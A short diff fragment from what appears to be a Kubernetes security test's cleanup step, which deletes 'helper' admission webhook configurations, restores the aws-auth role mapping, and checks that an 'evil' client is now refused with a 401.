+    'mutatingadmissionpolicies',
+    'mutatingwebhookconfigurations',
+  ])
+    await administrator.delete(`${ADMISSION}/${kind}/helper`).catch(() => {});
+  await setAwsAuth({ mapRoles: OWN_AWS_AUTH });
+  // An entry that is gone lets nobody in any more.
+  await eventually(() => expect(evil.get('/version')).rejects.toThrow(': 401 '));
+}
